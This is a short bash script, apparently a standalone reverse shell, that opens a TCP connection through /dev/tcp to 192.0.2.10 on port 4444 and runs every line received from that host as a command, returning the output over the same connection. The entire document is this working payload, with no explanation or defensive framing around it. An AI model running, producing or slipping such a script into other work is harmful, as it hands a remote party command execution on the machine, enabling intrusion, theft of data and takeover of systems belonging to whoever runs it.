#!/bin/bash
exec 5<>/dev/tcp/192.0.2.10/4444
cat <&5 | while read -r l; do $l 2>&5 >&5; done
